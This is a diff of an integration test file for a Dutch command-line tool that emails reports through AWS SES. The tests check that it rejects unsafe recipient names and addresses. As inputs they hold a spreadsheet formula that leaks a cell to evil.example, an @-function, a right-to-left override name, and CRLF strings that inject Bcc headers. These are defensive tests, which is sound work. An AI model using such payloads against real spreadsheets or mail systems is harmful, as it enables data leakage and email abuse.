@@ -17,14 +17,15 @@ import { type CliResult, type TestStack, clearSesStore, freshEnv, runCli, scanTa
  */
 
 const STACK_LINE = /^\s{4}at /m;
+const QUARTERLY_FILE = path.resolve(import.meta.dirname, '../../examples/sociaal-domein-bel-huizen/organisatie.yaml');
 
 let stack: TestStack;
 let refusingSes: { child: ChildProcess; endpoint: string } | undefined;
 
 beforeAll(async () => {
   stack = await startTestStack('rb-input');
-  // A finished run to re-send, list and export: the demo of 2026-09.
-  const demo = await runCli(['demo', '--period', '2026-09', '--dir', path.join(stack.dir, 'demo')], stack.env);
+  // A finished run to re-send, list and export: the demo of the quarterly example (four PDFs, not the demo's eight).
+  const demo = await runCli(['demo', '--organisatie', QUARTERLY_FILE, '--period', '2026-07', '--dir', path.join(stack.dir, 'demo')], stack.env);
   expect(demo.code, demo.stderr).toBe(0);
   await clearSesStore(stack);
 });
@@ -84,7 +85,7 @@ describe('every expected error is one line with what to do, never a stack', () =
     // Prepare
     await clearSesStore(stack);
     // Act
-    const result = await runCli(['resend', '2026-09-final', '--to', 'a@b.nl\r\nBcc: x@y.nl', '--gemeente', 'Tiel'], { ...stack.env, USER: 'tester' });
+    const result = await runCli(['resend', '2026-07-final', '--to', 'a@b.nl\r\nBcc: x@y.nl', '--gemeente', 'Huizen'], { ...stack.env, USER: 'tester' });
     // Assess
     const line = expectOneLineError(result);
     expect(line).toContain('het adres "a@b.nl\\r\\nBcc: x@y.nl" bevat een regeleinde of een ander stuurteken');
@@ -114,7 +115,7 @@ describe('every expected error is one line with what to do, never a stack', () =
     await clearSesStore(stack);
     const ses = await startRefusingSes();
     // Act
-    const result = await runCli(['run', '--period', '2026-07', '--zonder-concept', '--reden', 'test zonder SES-limieten', '--dir', path.join(stack.dir, 'run-refused')], { ...stack.env, AWS_ENDPOINT_URL_SES: ses });
+    const result = await runCli(['run', '--period', '2026-04', '--zonder-concept', '--reden', 'test zonder SES-limieten', '--dir', path.join(stack.dir, 'run-refused')], { ...stack.env, AWS_ENDPOINT_URL_SES: ses });
     // Assess
     const line = expectOneLineError(result);
     expect(line).toMatch(/SES gaf de verzendlimieten van het account niet \(GetAccount, (\w+, )?HTTP 400: Bad Request Exception\); zonder die limieten verstuurt rapportbode niets/);
@@ -125,12 +126,13 @@ describe('every expected error is one line with what to do, never a stack', () =
 
   it('ends quietly when the reader of its output has gone (rapportbode runs | head -1)', async () => {
     // Act: the reading end closed before the CLI writes a byte, so every write meets EPIPE.
-    const results: CliResult[] = [];
-    for (const args of [['runs'], ['recipients', 'export'], ['deliveries', '2026-09-final']]) {
-      const cli = startCli(args, stack.env);
-      cli.child.stdout?.destroy();
-      results.push(await cli.result);
-    }
+    const results: CliResult[] = await Promise.all(
+      [['runs'], ['recipients', 'export'], ['deliveries', '2026-07-final']].map((args) => {
+        const cli = startCli(args, stack.env);
+        cli.child.stdout?.destroy();
+        return cli.result;
+      }),
+    );
     // Assess
     for (const result of results) {
       expect(result.code, result.stderr).toBe(0);
@@ -228,23 +230,25 @@ describe('recipients import: nothing wiped or garbled without a question', () =>
 });
 
 describe('nothing a spreadsheet would evaluate gets in or out', () => {
-  it.each([
-    ['a formula', '=HYPERLINK("http://evil.example/?x="&A1;"klik")', 'begint met =, + of @'],
-    ['an @-function', '@SUM(1+1)', 'begint met =, + of @'],
-    ['a right-to-left override', 'Jan\u202eznasnaJ', 'leesrichting'],
-  ])('refuses %s as a name on add and on import, and writes nothing', async (_, name, why) => {
+  // Each rule of a name, per character and per path (add, import), is a unit test (test/unit/recipient-validation.test.ts); here both paths through the CLI.
+  it('refuses a name a spreadsheet would evaluate, one that turns the reading direction or one with CR/LF (header injection), on add and on import, and writes nothing', async () => {
     // Prepare
     const { cli, tableName } = await listOf([]);
     const before = await scanTable(tableName);
-    const csv = file('naam.csv', `gemeente;rol;naam;email\nTiel;ab-lid;"${name.replace(/"/g, '""')}";jan@tiel.example\n`);
+    const names = ['=HYPERLINK("http://evil.example/?x="&A1;"klik")', '@SUM(1+1)', 'Jan\u202eznasnaJ', 'Jan\r\nBcc: iedereen@example.org'];
+    const csv = file('namen.csv', `gemeente;rol;naam;email\n${names.map((name, i) => `Tiel;ab-lid;"${name.replace(/"/g, '""')}";jan${i}@tiel.example`).join('\n')}\n`);
     // Act
-    const added = await cli('recipients', 'add', '--gemeente', 'Tiel', '--rol', 'AB-lid', '--naam', name, '--email', 'jan@tiel.example');
+    const formula = await cli('recipients', 'add', '--gemeente', 'Tiel', '--rol', 'AB-lid', '--naam', names[0] as string, '--email', 'jan@tiel.example');
+    const crlf = await cli('recipients', 'add', '--gemeente', 'Tiel', '--rol', 'ab-lid', '--naam', names[3] as string, '--email', 'jan@tiel.example');
     const imported = await cli('recipients', 'import', csv);
     // Assess
-    expect(expectOneLineError(added)).toContain(`de ontvanger is niet toegevoegd: --naam: de naam ${why.startsWith('begint') ? why : 'bevat een teken dat de leesrichting omdraait'}`);
+    expect(expectOneLineError(formula)).toContain('de ontvanger is niet toegevoegd: --naam: de naam begint met =, + of @');
+    expect(expectOneLineError(crlf)).toContain('--naam: de naam bevat een regeleinde of een ander stuurteken');
     expect(imported.code).toBe(1);
-    expect(imported.stderr).toContain(`rij 2, kolom naam: de naam`);
-    expect(imported.stderr).toContain(why);
+    expect(imported.stderr).not.toMatch(STACK_LINE);
+    expect(imported.stderr).toContain('rijen 2 en 3, kolom naam: de naam begint met =, + of @');
+    expect(imported.stderr).toContain('rij 4, kolom naam: de naam bevat een teken dat de leesrichting omdraait');
+    expect(imported.stderr).toContain('rij 5, kolom naam: de naam bevat een regeleinde');
     expect(await scanTable(tableName)).toEqual(before);
   });
 
@@ -273,10 +277,10 @@ describe('nothing a spreadsheet would evaluate gets in or out', () => {
 
   it('neutralises the audit CSV of deliveries too: a --door that looks like a formula is text there', async () => {
     // Prepare: a re-send recorded as requested by "@SUM(1+1)".
-    const resend = await runCli(['resend', '2026-09-final', '--gemeente', 'Tiel', '--door', '@SUM(1+1)'], stack.env);
+    const resend = await runCli(['resend', '2026-07-final', '--gemeente', 'Huizen', '--door', '@SUM(1+1)'], stack.env);
     expect(resend.code, resend.stderr).toBe(0);
     // Act
-    const result = await runCli(['deliveries', '2026-09-final', '--csv'], stack.env);
+    const result = await runCli(['deliveries', '2026-07-final', '--csv'], stack.env);
     // Assess
     expect(result.code, result.stderr).toBe(0);
     const rows = result.stdout.replace(/^\uFEFF/, '').trimEnd().split('\r\n').map((l) => l.split(';'));
